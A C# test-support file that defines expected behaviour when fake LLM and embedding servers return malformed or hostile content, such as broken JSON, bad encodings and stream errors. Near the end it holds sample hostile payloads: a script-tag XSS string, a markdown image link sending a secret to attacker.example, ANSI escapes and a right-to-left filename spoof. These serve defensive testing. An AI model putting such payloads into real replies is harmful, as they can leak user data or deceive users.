using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Synapse.Fakes.Tests.TestSupport;

namespace Synapse.Fakes.Tests.Scenarios;

/// <summary>What broken and hostile content looks like.</summary>
internal static class ContentExpectations
{
    public static IReadOnlyDictionary<string, Expectation> All { get; } = new Dictionary<string, Expectation>
    {
        ["json-garbage"] = new(NotJson),
        ["json-truncated"] = new(NotJson),
        ["json-deep-65"] = new(NotJson),
        ["lone-surrogate"] = new(seen =>
        {
            Assert.Contains("\\ud800", seen.Reply.Text, StringComparison.Ordinal);
            Assert.Throws<InvalidOperationException>(() => Walk(seen));
        }),
        ["bad-utf8"] = new(seen =>
        {
            Assert.True(seen.Reply.Body.AsSpan().IndexOf([(byte)0xFF, (byte)0xC3, (byte)0x28]) > 0);
            Assert.Contains("\uFFFD", seen.Reply.Text, StringComparison.Ordinal);
        }),
        ["nan"] = new(seen =>
        {
            Assert.Contains("NaN", seen.Reply.Text, StringComparison.Ordinal);
            NotJson(seen);
        }),
        ["1e400"] = new(seen => Assert.Matches("[:\\[]1e400", seen.Reply.Text)),
        ["dup-keys"] = new(seen => Assert.Matches("\"(\\w+)\":null,\"\\1\":", seen.Reply.Text)),
        ["wrong-dim"] = new(seen => Assert.All(seen.Reply.Json["data"]!.AsArray(), row => Assert.Equal(383, row!["embedding"]!.AsArray().Count))),
        ["short-data"] = Rows(2),
        ["extra-data"] = Rows(4),
        ["null-choices"] = new(seen => Assert.Contains("\"choices\":null", seen.Reply.Text, StringComparison.Ordinal)),
        ["choices-empty-only"] = new(seen =>
        {
            Assert.All(seen.Stream.Events.SkipLast(1), item => Assert.Empty(JsonNode.Parse(item.Data)!["choices"]!.AsArray()));
            Assert.True(seen.Stream.Done);
        }),
        ["error-mid"] = new(Failed),
        ["error-mid-then-done"] = new(seen =>
        {
            Failed(seen);
            Assert.True(seen.Stream.Done);
        }),
        ["event-error"] = new(seen =>
        {
            Assert.Equal("error", seen.Stream.Events[^1].Name);
            Assert.NotNull(seen.Stream.Error);
            Assert.Empty(seen.Stream.Text);
        }),
        ["empty-chunk-eof"] = new(seen =>
        {
            Assert.Matches(""""model":"","system_fingerprint":"fp_ollama","choices":\[\{"index":0,"delta":\{"content":""\},"finish_reason":null\}\]\}$"""", seen.Stream.Events[^1].Data);
            Assert.Equal("Dogs bark", seen.Stream.Text);
            Assert.False(seen.Stream.Done);
        }),
        ["no-done"] = new(seen =>
        {
            Assert.Single(seen.Stream.Finishes);
            Assert.False(seen.Stream.Done);
        }),
        ["done-without-finish"] = new(seen =>
        {
            Assert.Equal(DialectRequest.Answer, seen.Stream.Text);
            Assert.Empty(seen.Stream.Finishes);
            Assert.True(seen.Stream.Done);
        }),
        ["done-space"] = new(seen => Assert.EndsWith("data: [DONE] \n\n", seen.Reply.Text, StringComparison.Ordinal)),
        ["two-finishes"] = new(seen => Assert.Equal(2, seen.Stream.Finishes.Count)),
        ["text-after-finish"] = new(seen =>
        {
            Assert.Single(seen.Stream.Finishes);
            Assert.EndsWith(" And more.", seen.Stream.Text, StringComparison.Ordinal);
        }),
        ["id-changes"] = new(seen =>
        {
            var ids = seen.Stream.Events.SkipLast(1).Select(item => (string)JsonNode.Parse(item.Data)!["id"]!).ToList();
            Assert.Equal(ids.Count, ids.Distinct().Count());
        }),
        ["xss-in-content"] = Text("<script>alert(1)</script>"),
        ["markdown-image-exfil"] = Text("![loading](https://attacker.example/pixel.png?q=secret)"),
        ["ansi-escapes"] = Text("\u001b[2J\u001b[31mred"),
        ["rtl-override"] = Text("invoice\u202Efdp.exe"),
    };

    private static Expectation Text(string text) => new(seen =>
    {
        Assert.Contains(text, seen.Stream.Text, StringComparison.Ordinal);
        Assert.Single(seen.Stream.Finishes);
    });

    private static Expectation Rows(int count) => new(seen =>
    {
        var rows = seen.Kind == RequestKind.Embeddings ? seen.Reply.Json["data"]! : seen.Dialect == "tei" ? seen.Reply.Json : seen.Reply.Json["results"]!;
        Assert.Equal(count, rows.AsArray().Count);
    });

    private static void NotJson(Seen seen)
    {
        Assert.Equal((200, RawEnd.Complete), (seen.Reply.Status, seen.Reply.End));
        if (seen.IsChat)
        {
            Assert.Single(seen.Stream.Broken);
            return;
        }

        Assert.ThrowsAny<JsonException>(() => JsonDocument.Parse(seen.Reply.Body).Dispose());
    }

    private static void Failed(Seen seen)
    {
        Assert.Equal("Dogs bark", seen.Stream.Text);
        Assert.Empty(seen.Stream.Finishes);
        Assert.Equal(seen.Dialect != "ollama", seen.Stream.Error is not null);
        Assert.Equal(seen.Dialect == "vllm", seen.Stream.Done);
    }

    /// <summary>Reads every string of the reply, as a client would.</summary>
    private static void Walk(Seen seen)
    {
        var texts = seen.IsChat
            ? Encoding.UTF8.GetString(seen.Reply.Body).Split('\n').Where(line => line.StartsWith("data: {", StringComparison.Ordinal)).Select(line => line["data: ".Length..])
            : [Encoding.UTF8.GetString(seen.Reply.Body)];
        foreach (var text in texts)
        {
            using var document = JsonDocument.Parse(text);
            Walk(document.RootElement);
        }
    }

    private static void Walk(JsonElement element)
    {
        switch (element.ValueKind)
        {
            case JsonValueKind.Object:
                element.EnumerateObject().ToList().ForEach(member => Walk(member.Value));
                break;
            case JsonValueKind.Array:
                element.EnumerateArray().ToList().ForEach(Walk);
                break;
            case JsonValueKind.String:
                Assert.NotNull(element.GetString());
                break;
        }
    }
}
